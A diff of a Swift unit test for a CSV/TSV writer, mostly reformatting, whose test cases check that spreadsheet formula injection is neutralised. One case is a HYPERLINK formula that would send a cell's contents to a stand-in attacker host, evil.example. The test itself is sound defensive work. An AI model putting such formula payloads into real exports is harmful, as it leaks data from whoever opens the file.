@@ -1,6 +1,6 @@
+import OilStatCore
 import Testing
 
-import OilStatCore
 @testable import OilStatReport
 
 /// The one CSV/TSV encoder: quoting, formula guard and numbers, with the probe's hostile country codes.
@@ -12,8 +12,10 @@ struct DelimitedWriterTests {
     }
 
     @Test(arguments: [
-        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
-         "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""),
+        (
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""
+        ),
         ("@SUM(1+1)", "'@SUM(1+1)"),
         ("+1+1", "'+1+1"),
         ("-1+1", "'-1+1"),
@@ -61,7 +63,9 @@ struct DelimitedWriterTests {
         // The fast four-decimal path and NumberText give the same field for the same double.
         var generator = SystemRandomNumberGenerator()
         for round in 0..<20_000 {
-            let value = round % 2 == 0 ? Double.random(in: -1e6...1e6, using: &generator)
+            let value =
+                round % 2 == 0
+                ? Double.random(in: -1e6...1e6, using: &generator)
                 : Double(Int.random(in: -100_000...100_000, using: &generator)) / 32 - 0.00005
             var writer = DelimitedWriter(delimiter: ",", quoting: .quoted)
             writer.number(value, decimals: 4)
